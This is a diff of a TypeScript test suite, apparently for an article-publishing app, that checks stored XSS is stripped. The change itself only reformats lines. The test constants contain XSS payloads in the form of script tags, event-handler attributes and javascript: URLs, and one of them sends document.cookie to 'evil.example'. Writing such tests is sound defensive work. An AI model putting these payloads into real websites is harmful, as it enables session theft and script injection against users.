@@ -4,8 +4,10 @@ import { createArticle, database, get, libraryTestApp, person, post } from '../.
 
 /** Stored XSS: what one user writes comes back to everyone without anything that could run. */
 const PAYLOAD_TITLE = 'Hallo<script>alert(document.cookie)</script><img src=x onerror=alert(1)><a href="javascript:alert(1)">Welt</a>';
-const PAYLOAD_TEXT = 'Erster Satz.<script>fetch("//evil.example?c="+document.cookie)</script> <svg onload=alert(1)></svg><iframe src="javascript:alert(1)"></iframe>Zweiter Satz.';
-const PAYLOAD_HTML = '<p onclick="alert(1)">Guten <strong>Tag</strong> <a href="javascript:alert(1)">hier</a> <a href="JaVaScRiPt:alert(1)">da</a></p><img src=x onerror=alert(1)><script>alert(1)</script><style>body{display:none}</style>';
+const PAYLOAD_TEXT =
+  'Erster Satz.<script>fetch("//evil.example?c="+document.cookie)</script> <svg onload=alert(1)></svg><iframe src="javascript:alert(1)"></iframe>Zweiter Satz.';
+const PAYLOAD_HTML =
+  '<p onclick="alert(1)">Guten <strong>Tag</strong> <a href="javascript:alert(1)">hier</a> <a href="JaVaScRiPt:alert(1)">da</a></p><img src=x onerror=alert(1)><script>alert(1)</script><style>body{display:none}</style>';
 
 function expectInert(body: string): void {
   expect(body).not.toMatch(/<\s*script/i);
@@ -32,7 +34,12 @@ describe(`stored XSS on ${database.label}`, () => {
       authorDisplayName: '<img src=x onerror=alert(3)>Eve',
     });
     expectInert(JSON.stringify(created));
-    expect(created.article).toMatchObject({ name: 'HalloWelt', content: 'Erster Satz. Zweiter Satz.', translation: 'First sentence.', authorDisplayName: 'Eve' });
+    expect(created.article).toMatchObject({
+      name: 'HalloWelt',
+      content: 'Erster Satz. Zweiter Satz.',
+      translation: 'First sentence.',
+      authorDisplayName: 'Eve',
+    });
 
     const got = await get(reader.agent, `/api/articles/${created.article.id}?minPosition=${created.position}`);
     expect(got.json()).toMatchObject({ name: 'HalloWelt', content: 'Erster Satz. Zweiter Satz.' });
@@ -58,9 +65,20 @@ describe(`stored XSS on ${database.label}`, () => {
 
   it('refuses javascript: image addresses and cleans series titles', async () => {
     const author = person(t);
-    const bad = await post(author.agent, '/api/articles/create', { languageCode: 'de', name: 'x', category: 'Other', generalDifficulty: 'A1', content: 'x', previewImgSrc: 'javascript:alert(1)' });
+    const bad = await post(author.agent, '/api/articles/create', {
+      languageCode: 'de',
+      name: 'x',
+      category: 'Other',
+      generalDifficulty: 'A1',
+      content: 'x',
+      previewImgSrc: 'javascript:alert(1)',
+    });
     expect(bad.statusCode).toBe(400);
-    const series = await post(author.agent, '/api/series/create', { languageCode: 'de', title: '<script>alert(1)</script>Reihe', description: '<img src=x onerror=alert(1)>Text' });
+    const series = await post(author.agent, '/api/series/create', {
+      languageCode: 'de',
+      title: '<script>alert(1)</script>Reihe',
+      description: '<img src=x onerror=alert(1)>Text',
+    });
     expect(series.json().series).toMatchObject({ title: 'Reihe', description: 'Text' });
     const listed = await get(author.agent, `/api/series/user-series?minPosition=${series.json().position}`);
     expectInert(listed.body);
@@ -68,7 +86,14 @@ describe(`stored XSS on ${database.label}`, () => {
 
   it('declines public text with scripts at the moderation check', async () => {
     const master = person(t, 'master');
-    const res = await post(master.agent, '/api/articles/create', { languageCode: 'de', name: PAYLOAD_TITLE, category: 'Other', generalDifficulty: 'A1', content: 'Text', isPrivate: false });
+    const res = await post(master.agent, '/api/articles/create', {
+      languageCode: 'de',
+      name: PAYLOAD_TITLE,
+      category: 'Other',
+      generalDifficulty: 'A1',
+      content: 'Text',
+      isPrivate: false,
+    });
     expect(res.statusCode).toBe(422);
   });
 });
